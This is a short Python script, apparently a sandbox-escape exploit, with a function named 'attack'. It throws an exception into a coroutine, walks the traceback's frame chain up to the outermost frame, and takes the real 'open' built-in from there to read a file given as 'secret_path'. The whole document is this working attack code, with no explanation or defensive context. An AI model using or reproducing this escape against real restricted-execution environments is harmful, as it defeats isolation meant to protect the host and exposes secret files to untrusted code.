# Throws into a coroutine to get at the frame that catches.
import types


@types.coroutine
def _wait():
    yield


async def _main():
    try:
        await _wait()
    except ValueError as error:
        return error.__traceback__.tb_frame.f_back.f_back


def attack(secret_path):
    run = _main()
    run.send(None)
    try:
        run.throw(ValueError())
    except StopIteration as stop:
        frame = stop.value
        while frame.f_back:
            frame = frame.f_back
        return frame.f_builtins["open"](secret_path).read()
